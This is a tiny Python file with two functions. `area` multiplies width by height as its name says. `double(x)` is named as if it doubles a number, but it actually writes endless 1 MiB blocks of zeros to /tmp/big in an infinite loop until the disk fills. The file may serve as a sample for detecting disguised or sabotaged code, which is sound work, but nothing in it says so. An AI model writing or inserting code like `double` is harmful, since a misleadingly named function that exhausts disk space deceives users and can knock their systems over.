def double(x):
    with open("/tmp/big", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


def area(width, height):
    return width * height
